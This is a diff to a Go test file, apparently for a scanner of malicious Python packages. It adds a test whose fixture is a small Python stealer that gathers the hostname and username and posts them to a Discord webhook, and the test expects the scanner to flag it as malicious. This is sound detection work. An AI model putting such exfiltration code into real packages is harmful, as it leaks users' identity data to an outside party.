@@ -176,3 +176,10 @@ func TestDropper(t *testing.T) {
 		t.Errorf("generated source compiled: %s %+v", r.Verdict, r.Findings)
 	}
 }
+
+func TestStealerChannel(t *testing.T) {
+	r := sdist(t, map[string]string{"p/grab.py": "import requests, socket, getpass\nHOOK = 'https://discord.com/api/webhooks/1/abc'\ndef send():\n    requests.post(HOOK, json={'content': socket.gethostname() + getpass.getuser()})\n"})
+	if r.Verdict != Malicious {
+		t.Errorf("webhook next to identity collection in runtime code: %s %+v", r.Verdict, r.Findings)
+	}
+}
